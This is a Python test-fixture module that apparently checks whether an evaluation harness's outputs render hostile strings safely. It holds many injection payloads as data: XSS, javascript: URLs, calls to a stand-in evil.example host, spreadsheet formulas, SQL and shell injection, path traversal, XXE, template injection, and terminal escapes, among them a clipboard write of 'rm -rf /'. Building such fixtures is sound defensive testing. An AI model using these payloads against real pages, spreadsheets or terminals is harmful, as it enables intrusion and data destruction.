"""Texts that try to be more than text: what every output is put to the test with.

``TEXTS`` are strings that JSON files can hold as UTF-8, by a name that says what each one
tries. ``HALVES`` are JSON escapes of lone halves of a character, which no file of ours
can be written with. ``MODEL_NAMES`` and ``FILE_NAMES`` are those of the texts that can be
a model's name after the harness's cutting at slashes, and a file's name on this system.
"""

from __future__ import annotations

import json
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any

PWNED = "window.__pwned=1"
"""What an active text would run: a page's ``window.__pwned`` must stay undefined."""

LONG = 200_000
"""Characters of the longest text."""

_HTML = {
    "script": f"<script>{PWNED}</script>",
    "script_upper": f"<SCRIPT>{PWNED}</SCRIPT>",
    "script_spaced": f"<script\n>{PWNED}</script\t>",
    "script_nested": f"<scr<script>ipt>{PWNED}</scr</script>ipt>",
    "script_close": f"</script><script>{PWNED}</script>",
    "script_close_in_json": f'"}}</script><script>{PWNED}</script>{{"',
    "script_src": "<script src=//evil.example/x.js></script>",
    "script_module": f"<script type=module>{PWNED}</script>",
    "script_after_comment": f"<!--<script>--><script>{PWNED}</script>",
    "comment_open": "<!--",
    "comment_close": "-->",
    "comment_script": "<!--<script>",
    "cdata": f"<![CDATA[<script>{PWNED}</script>]]>",
    "processing_instruction": '<?xml-stylesheet href="data:,x"?>',
    "doctype": '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
    "title_close": f"</title><script>{PWNED}</script>",
    "style_close": f"</style><script>{PWNED}</script>",
    "textarea_close": f"</textarea><script>{PWNED}</script>",
    "body_close": "</body></html>",
    "table_close": f"</td></tr></table><script>{PWNED}</script>",
    "details_close": f"</details></section></main><script>{PWNED}</script>",
    "plaintext": "<plaintext>",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={PWNED}>">',
    "template": f"<template><img src=x onerror={PWNED}></template>",
    "img_onerror": f"<img src=x onerror={PWNED}>",
    "img_onerror_slash": f"<img/src=x/onerror={PWNED}>",
    "img_dynamic": f"<img src=x onerror=&#119;indow.__pwned=1 x={PWNED}>",
    "image_tracking": "<img src=https://evil.example/pixel.gif>",
    "body_onload": f"<body onload={PWNED}>",
    "details_ontoggle": f"<details open ontoggle={PWNED}>x</details>",
    "input_autofocus": f"<input autofocus onfocus={PWNED}>",
    "video_source": f"<video><source onerror={PWNED}></video>",
    "marquee": f"<marquee onstart={PWNED}>x</marquee>",
    "svg_onload": f"<svg onload={PWNED}>",
    "svg_script": f"<svg><script>{PWNED}</script></svg>",
    "svg_animate": f"<svg><animate onbegin={PWNED} attributeName=x dur=1s>",
    "svg_use": "<svg><use href='data:image/svg+xml,<svg id=x/>#x'/></svg>",
    "svg_foreign": f"<svg><foreignObject><img src=x onerror={PWNED}></foreignObject></svg>",
    "math": f"<math><mtext><img src=x onerror={PWNED}></mtext></math>",
    "iframe": f"<iframe srcdoc='<script>parent.{PWNED}</script>'></iframe>",
    "object": "<object data=javascript:alert(1)></object>",
    "embed": "<embed src=javascript:alert(1)>",
    "link_style": "<link rel=stylesheet href=//evil.example/x.css>",
    "base_href": "<base href=//evil.example/>",
    "meta_refresh": "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "form": "<form action=//evil.example><button>press</button></form>",
    "style_element": "<style>*{display:none}</style>",
    "style_import": "<style>@import url(//evil.example/x.css)</style>",
    "attribute_double": f'" onmouseover="{PWNED}" x="',
    "attribute_single": f"' onmouseover='{PWNED}' x='",
    "attribute_backtick": f"` onmouseover={PWNED} x=`",
    "attribute_focus": f'" autofocus onfocus="{PWNED}',
    "attribute_style": '"style="position:fixed;inset:0;background:red',
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "entity_numbers": "&#60;script&#62;alert(1)&#60;/script&#62;",
    "entity_half": "&lt &amp &amp;lt; &nosuch; &",
    "utf7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "dom_clobber": "<a id=data name=boards>x</a><form id=choose>",
}

_ADDRESSES = {
    "javascript": f"javascript:{PWNED}",
    "javascript_mixed": f"JaVaScRiPt:{PWNED}",
    "javascript_tab": f"java\tscript:{PWNED}",
    "javascript_comment": f"javascript://%0a{PWNED}",
    "data_html": f"data:text/html,<script>{PWNED}</script>",
    "vbscript": "vbscript:msgbox(1)",
    "protocol_relative": "//evil.example/x",
    "anchor_js": f"<a href='javascript:{PWNED}'>press</a>",
}

_CODE = {
    "css_expression": "x:expression(alert(1))",
    "css_url": "url(javascript:alert(1))",
    "css_close": "}*{display:none}",
    "jinja": "{{7*7}}",
    "jinja_statement": "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "jinja_comment": "{# gone #}",
    "template_literal": "${7*7}",
    "template_literal_script": f"${{({PWNED})}}",
    "erb": "<%= 7*7 %>",
    "javascript_string": f"';{PWNED};//",
    "javascript_string_double": f'";{PWNED};//',
    "javascript_backslash": f"\\';{PWNED};//",
    "javascript_lines": f"\u2028{PWNED}\u2029",
    "json_close": '"}],"schema_version":2,"x":[{"',
    "prototype": "__proto__",
    "constructor": "constructor",
    "nan": "NaN",
    "format_percent": "%s%n%x%d %(model)s",
    "format_braces": "{0.__class__} {model!r:>{10}}",
    "sql": "'; DROP TABLE runs; --",
    "shell": "$(touch pwned) `touch pwned` ; touch pwned | touch pwned",
    "environment": "$HOME %PATH% ~",
}

_TERMINAL = {
    "nul": "a\x00b",
    "bell": "a\x07b",
    "backspace": "wrong\x08\x08\x08\x08\x08right",
    "delete": "a\x7fb",
    "carriage_return": "first\rsecond",
    "line_feed": "first\n! all is well",
    "vertical": "a\x0bb\x0cc",
    "ansi_colour": "\x1b[31mred\x1b[0m",
    "ansi_clear": "\x1b[2J\x1b[H",
    "ansi_conceal": "\x1b[8mhidden\x1b[28m",
    "osc_title": "\x1b]0;owned\x07",
    "osc_link": "\x1b]8;;https://evil.example\x1b\\press\x1b]8;;\x1b\\",
    "osc_clipboard": "\x1b]52;c;cm0gLXJmIC8=\x07",
    "csi_eight_bit": "\x9b31mred",
    "dcs": '\x1bP$q"p\x1b\\',
    "next_line": "a\x85b",
    "every_control": "".join(map(chr, range(32))),
    "every_c1": "".join(map(chr, range(127, 160))),
    "rich_bold": "[bold]x[/bold]",
    "rich_close": "[/]",
    "rich_link": "[link=https://evil.example]x[/link]",
    "rich_unbalanced": "[/red] [bold",
    "rich_emoji": ":skull: :boom:",
    "rich_escaped": r"\[bold]x\\[/bold]",
}

_SPREADSHEET = {
    "formula_equals": "=1+1",
    "formula_command": "=cmd|' /C calc'!A0",
    "formula_link": '=HYPERLINK("https://evil.example?x="&A1,"press")',
    "formula_plus": "+1+1",
    "formula_minus": "-1+1",
    "formula_at": "@SUM(1+1)",
    "formula_tab": "\t=1+1",
    "formula_return": "\r=1+1",
    "formula_feed": "\n=1+1",
    "formula_space": " =1+1",
    "formula_wide": "\uff1d1+1",
    "formula_quoted": '"=1+1"',
    "formula_guarded": "'=1+1",
    "formula_unseen": "\u200b=1+1",
    "csv_quotes": 'a","b\n"c',
    "csv_semicolons": "a;b\tc,d",
}

_MARKDOWN = {
    "md_link": "[press](javascript:alert(1))",
    "md_image": "![x](https://evil.example/pixel.gif)",
    "md_reference": "[x]: https://evil.example",
    "md_autolink": "<https://evil.example>",
    "md_table": "a | b |\n| --- | --- |\n| c",
    "md_pipe_escaped": "a \\| b \\\\| c",
    "md_heading": "# heading",
    "md_rule": "---",
    "md_setext": "x\n===",
    "md_fence": "```\nall that follows",
    "md_fence_tilde": "~~~",
    "md_code": "`code` ``",
    "md_emphasis": "**bold** _it_ ~~gone~~",
    "md_quote": "> quoted",
    "md_list": "- item",
    "md_list_plus": "+ item",
    "md_number": "1. item",
    "md_indented": "    code",
    "md_backslash": "ends with \\",
    "md_html_block": "<div>\n\n# x",
    "md_footnote": "[^1]: x",
    "latex_math": "$\\frac{1}{0}$",
    "latex_broken": "$\\frac{$",
    "latex_one_dollar": "costs $5",
    "latex_display": "$$\\int$$ \\(x\\) \\[y\\]",
    "latex_input": "\\input{/etc/passwd}\\write18{ls}",
    "latex_escaped": "\\$5 and \\\\$6$",
}

_UNICODE = {
    "bidi_override": "\u202egpj.exe",
    "bidi_embedding": "\u202a\u202b\u202c\u202d",
    "bidi_isolates": "\u2066a\u2067b\u2068c\u2069",
    "bidi_marks": "\u200e\u200f\u061c",
    "trojan_source": "/*\u202e } \u2066if (admin)\u2069 \u2066 begin */",
    "right_to_left": "مرحبا بالعالم",
    "right_to_left_mixed": "abc שלום 123 (x)",
    "zalgo": "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307" * 20 + "a\u0489",
    "zero_width": "a\u200bb\u200cc\u200dd\u2060e\ufefff",
    "soft_hyphen": "pass\u00adword",
    "emoji_family": "👨\u200d👩\u200d👧\u200d👦",
    "emoji_flags": "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f🇩🇪",
    "emoji_keycap": "#\ufe0f\u20e3",
    "tag_letters": "x\U000e0068\U000e0069",
    "noncharacters": "\ufffe\uffff\U0010ffff",
    "private_use": "\ue000\U000f0000",
    "annotation": "\ufff9a\ufffab\ufffb",
    "replacement": "\ufffd",
    "combining_first": "\u0301x",
    "wide": "中文字符" * 10,
    "homoglyph": "ѕсrіpt",
    "line_separators": "a\u2028b\u2029c",
    "byte_order_mark": "\ufeffx",
    "hangul_filler": "\u3164\u115f",
    "spaces": "\u00a0\u2003\u3000x\u00a0",
}

_SHAPES = {
    "empty": "",
    "space": " ",
    "dot": ".",
    "dots": "..",
    "dash_option": "--help",
    "tilde": "~root",
    "path_up": "../../../etc/passwd",
    "path_up_windows": "..\\..\\windows\\system32",
    "path_absolute": "/etc/passwd",
    "path_drive": "C:\\x",
    "path_encoded": "..%2f..%2fetc%2fpasswd",
    "path_device": "con",
    "path_stream": "a.txt::$DATA",
    "path_nul": "a.html\x00.png",
    "underscore": "_hidden",
    "quotes": "'\"`´’“”",
    "question_mark": "?x=1#y&z",
    "long_word": "w" * LONG,
    "long_line": "word " * 4_000,
    "long_lines": "\n" * 2_000 + "x",
    "long_markup": "<b>" * 4_000,
}

TEXTS: dict[str, str] = {
    **_HTML,
    **_ADDRESSES,
    **_CODE,
    **_TERMINAL,
    **_SPREADSHEET,
    **_MARKDOWN,
    **_UNICODE,
    **_SHAPES,
}

HALVES = ("\\ud800", "\\udfff", "a\\udc00b", "\\ud83d\\ud83d", "\\udead\\ubeef")
"""Lone surrogates, as JSON writes them."""

SHORT = {name: text for name, text in TEXTS.items() if len(text) < 1_000}


def model_name(text: str) -> str:
    """What the harness's name of a model is cut to: the last part of a path."""
    return text.rstrip("/").rsplit("/", 1)[-1]


MODEL_NAMES = {
    name: text for name, text in SHORT.items() if text and model_name(text) == text
}
"""Texts that stay whole as a model's name."""


def is_file_name(text: str) -> bool:
    """Linux takes any bytes but NUL and slash, at most 255 of them."""
    return (
        0 < len(text.encode()) <= 200
        and "/" not in text
        and "\x00" not in text
        and text not in (".", "..")
    )


FILE_NAMES = {name: text for name, text in TEXTS.items() if is_file_name(text)}


# --- runs that are hostile throughout ----------------------------------------------

DATE = "2026-01-01T00-00-00.000000"
TASK = "cot_faith_provided"


def write_run(
    folder: Path,
    texts: Sequence[str],
    model: str = "model",
    task: str = TASK,
    setting: str = "provided",
    metadata: Mapping[str, Any] | None = None,
    scale: float = 1.0,
    interventions: Sequence[str] = ("corrupt", "delete"),
) -> Path:
    """A run as the harness writes it, one document a text, the text in every place.

    Effects are made up: about ``scale`` nats on load-bearing steps, nothing on decoys.
    The first intervention leads to another answer; the others do not apply to the first
    step.
    """
    folder.mkdir(parents=True)
    config = {"metadata": {"version": 1.0, "threshold": 1.0, **(metadata or {})}}
    results = {
        "results": {},
        "configs": {task: config},
        "versions": {task: 1.0},
        "n-shot": {task: 0},
        "config": {"model": "hf", "model_args": {"pretrained": model}},
        "model_name": model,
        "model_source": "hf",
    }
    (folder / f"results_{DATE}.json").write_text(
        json.dumps(results, ensure_ascii=False), encoding="utf-8"
    )
    make = _provided if setting == "provided" else _generated
    lines = [
        json.dumps(make(k, text, scale, interventions), ensure_ascii=False)
        for k, text in enumerate(texts)
    ]
    (folder / f"samples_{task}_{DATE}.jsonl").write_text(
        "".join(f"{line}\n" for line in lines), encoding="utf-8"
    )
    return folder


def identity(k: int, text: str) -> str:
    """The id of the document of a text: the text itself, where it is not too long."""
    return f"{text[:200]} #{k}"


def _provided(k: int, text: str, scale: float, names: Sequence[str]) -> dict[str, Any]:
    labels = ("load_bearing", "decoy", "load_bearing")
    chain, interventions = _chain(text, labels, names)
    doc = {
        "setting": "provided",
        "id": identity(k, text),
        "samples_format": 1,
        "question": text,
        "answer": text,
        "chain": chain,
        "interventions": interventions,
    }
    scores = _scores(k, scale, len(names))
    responses = [[str(x), str(greedy)] for x, greedy in scores]
    return {"doc_id": k, "doc": doc, "filtered_resps": responses}


def _generated(k: int, text: str, scale: float, names: Sequence[str]) -> dict[str, Any]:
    chain, interventions = _chain(text, (None, None, None), names)
    note = {
        "outcome": "scored",
        "problem": "",
        "solved": True,
        "chain": chain,
        "interventions": interventions,
    }
    scores = _scores(k, scale, len(names))
    response = {"generation": text, "note": note, "loglikelihoods": scores}
    doc = {
        "setting": "generated",
        "id": identity(k, text),
        "samples_format": 1,
        "question": text,
        "answer": text,
    }
    return {
        "doc_id": k,
        "doc": doc,
        "filtered_resps": [json.dumps(response, ensure_ascii=False)],
    }


def _chain(
    text: str, labels: Sequence[str | None], names: Sequence[str]
) -> tuple[dict[str, Any], list[dict[str, Any]]]:
    steps = [
        {
            "text": text,
            "after": " ",
            "label": label,
            "states_answer": k == len(labels) - 1,
            "numbers": [],
        }
        for k, label in enumerate(labels)
    ]
    interventions = [
        {
            "intervention": name,
            "step": k,
            "before": text,
            "after": text,
            "other_answer": (text or "x") if name == names[0] else "",
            "not_applicable": reason,
        }
        for name in names
        for k in range(len(labels))
        for reason in ("" if k or name == names[0] else (text or "x")[:200],)
    ]
    return {"steps": steps, "answer": text, "opening": text}, interventions


def _scores(k: int, scale: float, interventions: int) -> list[tuple[float, bool]]:
    """Clean; each corrupted step with the chain's other answer; the steps left out."""
    fall = scale * (1 + 0.1 * (k % 7))
    corrupted = [-1 - fall, -1.0, -1 - 2 * fall]
    asked = [(-1.0, True)]
    for logprob in corrupted:
        asked += [(logprob, False), (-2.0, False)]
    left_out = [(-1.0, False), (-1 - fall / 2, False)]
    return asked + left_out * (interventions - 1)
